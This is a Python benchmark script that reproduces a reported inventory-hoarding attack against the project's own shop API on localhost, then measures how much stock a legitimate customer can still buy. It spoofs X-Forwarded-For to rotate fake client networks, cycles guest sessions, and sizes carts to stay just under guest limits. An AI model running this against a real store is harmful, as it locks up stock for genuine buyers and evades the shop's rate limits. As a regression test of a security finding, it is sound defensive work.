"""The hoarding attack of issue 44 (item 1), as a script: guests from a few
client networks take every unit they can. Public reads list the active
in-stock products; then each guest adds whole variants to its carts (up to
99 units a line) and opens a checkout every LINES lines, a new guest when
one is refused or runs out of carts, until every variant was tried or the
time is up. At the end a customer on another network tries to buy one unit
of each of 10 variants that were in stock. Needs a gateway that believes
X-Forwarded-For from this host (TRUSTED_PROXIES=127.0.0.1).

    python3 bench/hoard.py http://127.0.0.1:8080 [networks 2] [seconds 100] [greedy|within]

`greedy` (the finding's script): 99 units a line, 100 lines a checkout.
`within`: what a hoarder who knows the guest limits does, 10 units a line
and 10 lines a checkout, so that each guest holds 100 units.

Prints one JSON line: requests sent, units in stock before, units the
hoarders hold, refusals by code, and how many of the 20 the other customer
could still check out (10 of the variants with the most stock).
"""

import json
import sys
import time
import urllib.error
import urllib.request
import uuid

API = sys.argv[1].rstrip("/")
NETWORKS = int(sys.argv[2]) if len(sys.argv) > 2 else 2
SECONDS = float(sys.argv[3]) if len(sys.argv) > 3 else 100.0
MODE = sys.argv[4] if len(sys.argv) > 4 else "greedy"
LINES, PER_LINE = (100, 99) if MODE == "greedy" else (10, 10)
requests = 0
refusals = {}


def call(method, path, body=None, token=None, ip=None):
    global requests
    requests += 1
    headers = {"X-Api-Version": "v1.0"}
    data = None
    if body is not None:
        data = json.dumps(body).encode()
        headers["Content-Type"] = "application/json"
    if token:
        headers["X-BFF-Token"] = token
    if ip:
        headers["X-Forwarded-For"] = ip
    request = urllib.request.Request(API + path, data=data, headers=headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            text = answer.read()
            return answer.status, json.loads(text) if text else None
    except urllib.error.HTTPError as e:
        text = e.read()
        body = json.loads(text) if text else {}
        code = body.get("code", str(e.code))
        refusals[code] = refusals.get(code, 0) + 1
        return e.code, body


def in_stock():
    """(product id, variant id, units) of every active variant in stock."""
    found, offset, reads = [], 0, 0
    # Public reads from rotating addresses, as a crawler spreads them.
    reader = lambda: f"192.0.2.{1 + reads % 250}"
    while True:
        reads += 1
        _, page = call("GET", f"/products?limit=100&offset={offset}&status=active&inStock=true",
                       ip=reader())
        for p in page["results"]:
            reads += 1
            _, variants = call("GET", f"/products/{p['id']}/variants?limit=100", ip=reader())
            for v in variants["results"]:
                units = v["availability"]["quantity"]
                if units > 0:
                    found.append((p["id"], v["id"], units))
        offset += 100
        if offset >= page["total"]:
            return found


ADDRESS = {"firstName": "Mallory", "lastName": "H", "streetName": "Pitt St", "city": "Sydney",
           "postalCode": "2000", "country": "AU"}


def hoard(variants, deadline):
    held = 0
    queue = list(variants)
    guest_no = 0
    while queue and time.time() < deadline:
        ip = f"198.51.{100 + guest_no % NETWORKS}.{1 + guest_no % 250}"
        guest_no += 1
        status, started = call("POST", "/auth/guest", {}, ip=ip)
        if status != 201:
            time.sleep(1)
            continue
        token = started["accessToken"]
        for _ in range(20):
            if not queue or time.time() > deadline:
                break
            status, cart = call("POST", "/carts", {}, token=token, ip=ip)
            if status != 201:
                break
            lines = []
            while queue and len(lines) < LINES and time.time() < deadline:
                product, variant, units = queue.pop()
                quantity = min(units, PER_LINE)
                line = {"productId": product, "variantId": variant, "quantity": quantity}
                status, _ = call("POST", f"/carts/{cart['id']}/line-items", line, token=token, ip=ip)
                if status == 200:
                    lines.append(quantity)
            if not lines:
                break
            status, _ = call("POST", "/checkout", {"cartId": cart["id"], "shippingAddress": ADDRESS},
                             token=token, ip=ip)
            if status == 201:
                held += sum(lines)
            else:
                break  # this guest is refused: the next one tries
    return held


def other_customer_buys(variants):
    email = f"buyer-{uuid.uuid4().hex}@example.com"
    body = {"emailAddress": email, "password": "correct horse 42", "firstName": "B", "lastName": "C",
            "gRecaptchaResponse": "dev-ok"}
    call("POST", "/customers", body, ip="203.0.113.9")
    _, session = call("POST", "/auth/login", {"emailAddress": email, "password": "correct horse 42",
                                               "gRecaptchaResponse": "dev-ok"}, ip="203.0.113.9")
    token = session["accessToken"]
    bought = 0
    # Ten checkouts: one session's budget a minute (RATE_LIMIT_CHECKOUT_SESSION).
    for product, variant, _ in variants[:10]:
        _, cart = call("POST", "/carts", {}, token=token, ip="203.0.113.9")
        line = {"productId": product, "variantId": variant, "quantity": 1}
        status, _ = call("POST", f"/carts/{cart['id']}/line-items", line, token=token, ip="203.0.113.9")
        if status != 200:
            continue
        status, opened = call("POST", "/checkout", {"cartId": cart["id"], "shippingAddress": ADDRESS},
                              token=token, ip="203.0.113.9")
        if status == 201:
            # Paid with the test provider's card that authorizes, then confirmed.
            call("POST", f"/checkout/{opened['id']}/payment", {"paymentMethod": "pm_card_visa"},
                 token=token, ip="203.0.113.9")
            status, _ = call("POST", f"/checkout/{opened['id']}/confirm", None, token=token, ip="203.0.113.9")
            bought += status == 200
        call("DELETE", f"/carts/{cart['id']}", None, token=token, ip="203.0.113.9")
    return bought


def main():
    variants = in_stock()
    units = sum(u for _, _, u in variants)
    started = time.time()
    held = hoard(sorted(variants, key=lambda v: v[2]), started + SECONDS)
    spent = time.time() - started
    bought = other_customer_buys(sorted(variants, key=lambda v: -v[2]))
    print(json.dumps({"requests": requests, "seconds": round(spent, 1), "networks": NETWORKS,
                      "units_in_stock": units, "units_held": held,
                      "held_share": round(held / units, 3) if units else 0,
                      "refusals": refusals, "mode": MODE, "other_customer_bought_of_10": bought}))


if __name__ == "__main__":
    main()
